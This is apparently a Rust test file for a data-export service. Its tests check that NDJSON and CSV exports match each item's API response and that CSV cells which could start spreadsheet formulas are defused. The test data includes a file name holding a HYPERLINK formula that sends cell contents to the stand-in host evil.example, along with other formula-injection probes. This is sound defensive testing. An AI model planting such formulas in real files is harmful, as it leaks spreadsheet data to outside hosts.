use serde_json::{Value, json};
use shared::{base::ids::ItemId, testing::TestResponse};
use sqlx::PgPool;

use crate::support::{Export, ids, lines};

/// A file name with everything that can break a CSV cell.
const NAME: &str = "=HYPERLINK(\"https://evil.example?\"&A1,\"größe, 文 🙂\").pdf";

impl Export {
    /// Gets an item from its own route.
    async fn shown(&self, path: &str, item: ItemId) -> TestResponse {
        let answer = self.data.get(&format!("/{path}/{item}")).await;
        answer.assert_status(200);
        answer
    }
}

/// Returns the expected line of an item, given the response of its own route.
fn expected(kind: &str, shown: &Value) -> Value {
    let mut expected = shown.clone();
    let fields = expected.as_object_mut().expect("an object");
    fields.remove("progress");
    let failure = fields.remove("failure").unwrap_or_default();
    let text = fields.remove(if kind == "document" { "ocr_text" } else { "transcription_text" });
    let more = json!({
        "kind": kind, "failure_code": failure["code"], "failure_message": failure["message"], "text": text,
    });
    fields.extend(more.as_object().expect("an object").clone());
    for name in ["domain", "page_count", "duration_seconds", "requested_language"] {
        fields.entry(name).or_insert(Value::Null);
    }
    expected
}

#[sqlx::test(migrator = "migrations::MIGRATOR")]
async fn a_line_equals_the_response_of_the_items_own_route(db: PgPool) {
    let export = Export::start(db).await;
    let document = export.document(NAME, &["=1+1\n\"quoted\", and", "", "größer 文 🙂\t\u{1}"]).await;
    let voice = export.voice("talk.flac", &["Hello,", "world."]).await;
    let failed = export.document("broken.pdf", &[]).await;
    let draft = export.platform.draft(export.project, &export.admin, "application/pdf", 7).await.item_id;
    export
        .set(
            document,
            "update items set corrected_text = E'-2\\r\\nlines', feedback = '@all', language = 'de-DE', status = 'rejected',
                 reviewed_at = now(), reviewed_by_id = uploaded_by_id, submitted_at = created_at,
                 processed_at = created_at + interval '90 seconds', duplicate_of = project_id
             where id = $1",
        )
        .await;
    export.set(document, "update documents set domain = '+letters', page_count = 3 where item_id = $1").await;
    export
        .set(voice, "update voice_samples set duration_seconds = 2.5, requested_language = 'en-GB' where item_id = $1")
        .await;
    export
        .set(
            failed,
            "update items set status = 'failed', failure_code = 'encrypted', failure_message = 'It is, \"so\".',
                 duplicate_of = (select id from items where original_filename = 'talk.flac')
             where id = $1",
        )
        .await;
    let lines = export.lines().await;
    let shown = [
        expected("document", &export.shown("documents", document).await.body),
        expected("document", &export.shown("documents", failed).await.body),
        expected("document", &export.shown("documents", draft).await.body),
        expected("voice", &export.shown("voice", voice).await.body),
    ];
    assert_eq!(lines, shown);
    assert_eq!(lines[0]["text"], "=1+1\n\"quoted\", and\n\ngrößer 文 🙂\t\u{1}");
    assert_eq!((&lines[2]["text"], &lines[3]["text"]), (&Value::Null, &json!("Hello,\nworld.")));
}

#[sqlx::test(migrator = "migrations::MIGRATOR")]
async fn a_csv_file_has_the_same_content_and_no_formulas(db: PgPool) {
    let export = Export::start(db).await;
    let document = export.document(NAME, &["=1+1\n\"quoted\"", "größer 文, 🙂\r\n"]).await;
    export
        .set(
            document,
            "update items set corrected_text = E'\\t=A1', feedback = '@all', language = '-x' where id = $1",
        )
        .await;
    export.set(document, "update documents set domain = '+letters', page_count = 2 where item_id = $1").await;
    export.voice("talk.flac", &[]).await;
    let json = export.lines().await;
    let id = export.request("csv").await;
    export.run().await;
    export.assert_mailed(id).await;
    let file = export.file(id).await;

    assert!(file.ends_with("\r\n"), "{file}");
    let mut reader = csv::ReaderBuilder::new().from_reader(file.as_bytes());
    let header: Vec<String> = reader.headers().expect("a header").iter().map(str::to_owned).collect();
    let mut names = header.clone();
    names.sort_unstable();
    assert_eq!(names, json[0].as_object().expect("an object").keys().cloned().collect::<Vec<_>>());
    let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>().expect("rows");
    assert_eq!(rows.len(), 2);
    for (row, line) in rows.iter().zip(&json) {
        for (name, cell) in header.iter().zip(row) {
            let value = match &line[name] {
                Value::Null => String::new(),
                Value::String(text) => text.clone(),
                other => other.to_string(),
            };
            let defused = if value.starts_with(['=', '+', '-', '@']) { "'" } else { "" };
            assert_eq!(cell, format!("{defused}{}", value.replace("\t=", "\t'=")), "{name}");
        }
    }
    let formulas = ["original_filename", "text", "corrected_text", "feedback", "language", "domain"];
    for name in formulas {
        let column = header.iter().position(|column| column == name).expect("a column");
        assert!(rows[0][column].trim_start().starts_with('\''), "{name}: {}", &rows[0][column]);
    }
}

#[sqlx::test(migrator = "migrations::MIGRATOR")]
async fn no_spreadsheet_finds_a_formula_whatever_its_separator(db: PgPool) {
    let export = Export::start(db).await;
    let document = export.document("a;=1+1;.pdf", &["x,=1\n=2", ";\"=3\"|@4\t-5"]).await;
    let id = export.request("csv").await;
    export.run().await;
    export.assert_mailed(id).await;
    let file = export.file(id).await;

    let (_, rows) = file.split_once("\r\n").expect("a header");
    assert!(rows.starts_with(&format!("\"{document}\",\"document\",")), "every text cell is quoted: {rows}");
    // Spreadsheets for languages with a decimal comma split cells at semicolons, and ignore quotes within a cell.
    for separator in [',', ';', '\t', '|'] {
        for cell in rows.split([separator, '\r', '\n']) {
            assert!(!cell.trim_matches('"').starts_with(['=', '+', '-', '@']), "{separator}: {cell}");
        }
    }
}

#[sqlx::test(migrator = "migrations::MIGRATOR")]
async fn an_export_without_items_is_an_empty_file_or_a_header(db: PgPool) {
    let export = Export::start(db).await;
    assert_eq!(export.lines().await, Vec::<Value>::new());
    let id = export.request("csv").await;
    export.run().await;
    export.assert_mailed(id).await;
    let file = export.file(id).await;
    assert!(file.starts_with("\u{feff}id,kind,") && file.ends_with(",text,corrected_text\r\n"), "{file}");
    assert_eq!(file.lines().count(), 1);
    let about = export.get(id).await;
    assert_eq!(about["progress"], json!({"done": 0, "total": 0}));
}

#[sqlx::test(migrator = "migrations::MIGRATOR")]
async fn an_export_contains_only_items_of_the_project_with_the_requested_status(db: PgPool) {
    let export = Export::of_chunks(db, 2).await;
    let mut approved = Vec::new();
    for number in 0..9 {
        let item = export.document("a.pdf", &["text"]).await;
        match number % 3 {
            0 => export.set(item, "update items set status = 'rejected' where id = $1").await,
            1 => export.set(item, "update items set deleted_at = now() where id = $1").await,
            _ => approved.push(item),
        }
    }
    approved.push(export.voice("a.flac", &["text"]).await);
    let other = export.platform.project(&export.admin).await;
    export.platform.draft(other, &export.admin, "application/pdf", 7).await;
    let id = export.request_of(json!({"format": "ndjson", "status": "approved"})).await;
    export.run().await;
    export.assert_mailed(id).await;
    assert_eq!(ids(&lines(&export.file(id).await)), approved);
    let about = export.get(id).await;
    assert_eq!(
        (&about["item_status"], &about["progress"]),
        (&json!("approved"), &json!({"done": 4, "total": 4}))
    );
    assert_eq!(export.lines().await.len(), 7);
}

#[sqlx::test(migrator = "migrations::MIGRATOR")]
async fn items_created_after_the_request_are_not_exported(db: PgPool) {
    let export = Export::of_chunks(db, 1).await;
    let before = [export.document("a.pdf", &["a"]).await, export.document("b.pdf", &["b"]).await];
    let id = export.request("ndjson").await;
    export.document("c.pdf", &["c"]).await;
    // Each item has its state as of the moment its chunk is written.
    let first = export.step().await;
    export.deliver(first).await.assert_status(204);
    for item in before {
        export.set(item, "update items set corrected_text = 'corrected' where id = $1").await;
    }
    export.run().await;
    export.assert_mailed(id).await;
    let lines = lines(&export.file(id).await);
    assert_eq!(ids(&lines), before);
    let corrected: Vec<&Value> = lines.iter().map(|line| &line["corrected_text"]).collect();
    assert_eq!(corrected, [&Value::Null, &json!("corrected")]);
}

#[sqlx::test(migrator = "migrations::MIGRATOR")]
async fn long_texts_are_written_in_pieces(db: PgPool) {
    let export = Export::start_with(db, &[("EXPORT_CHUNK_BYTES", "1000000")]).await;
    let page = |number: usize| format!("=\"{number}\"\n{}", "größer 文 🙂 ".repeat(500 + number));
    let pages: Vec<String> = (0..450).map(page).collect();
    let pages: Vec<&str> = pages.iter().map(String::as_str).collect();
    let book = export.document("book.pdf", &pages).await;
    let talk = export.voice("talk.flac", &pages[..300]).await;
    let short = export.document("short.pdf", &["short"]).await;
    let corrected = "\"-'\n".repeat(60_000);
    let update = sqlx::query("update items set corrected_text = $2 where id = $1").bind(short);
    update.bind(&corrected).execute(&export.platform.db).await.expect("a correction");
    for format in ["ndjson", "csv"] {
        let id = export.request(format).await;
        // The book fills a chunk, and so does the talk together with the short items before it.
        assert_eq!(export.run().await, 3 + 1 + 1, "{format}");
        export.assert_mailed(id).await;
        let file = export.file(id).await;
        if format == "ndjson" {
            let lines = lines(&file);
            assert_eq!(ids(&lines), [book, short, talk]);
            assert_eq!(lines[0]["text"], pages.join("\n"));
            assert_eq!(
                (&lines[1]["text"], &lines[1]["corrected_text"]),
                (&json!("short"), &json!(corrected))
            );
            assert_eq!(lines[2]["text"], pages[..300].join("\n"));
        } else {
            let rows: Vec<csv::StringRecord> =
                csv::Reader::from_reader(file.as_bytes()).records().collect::<Result<_, _>>().expect("rows");
            // Each line could start a formula.
            assert_eq!(&rows[0][24], format!("'{}", pages.join("\n'")));
            assert_eq!((&rows[1][24], &rows[1][25]), ("short", corrected.replace('-', "'-").as_str()));
            assert_eq!(&rows[2][24], format!("'{}", pages[..300].join("\n'")));
        }
    }
}

#[sqlx::test(migrator = "migrations::MIGRATOR")]
async fn the_file_is_an_attachment_with_the_content_type_of_its_format(db: PgPool) {
    let export = Export::start(db).await;
    for (format, kind) in
        [("ndjson", "application/x-ndjson"), ("csv", "text/csv; charset=utf-8; header=present")]
    {
        let id = export.request(format).await;
        export.run().await;
        export.assert_mailed(id).await;
        let about = export.get(id).await;
        let answer = reqwest::get(about["url"].as_str().expect("a URL")).await.expect("an answer");
        assert_eq!(answer.headers()["content-type"], kind);
        let disposition = answer.headers()["content-disposition"].to_str().expect("text").to_owned();
        let day = &about["created_at"].as_str().expect("a time")[..10];
        assert_eq!(disposition, format!("attachment; filename=\"items-{day}.{format}\""));
    }
}
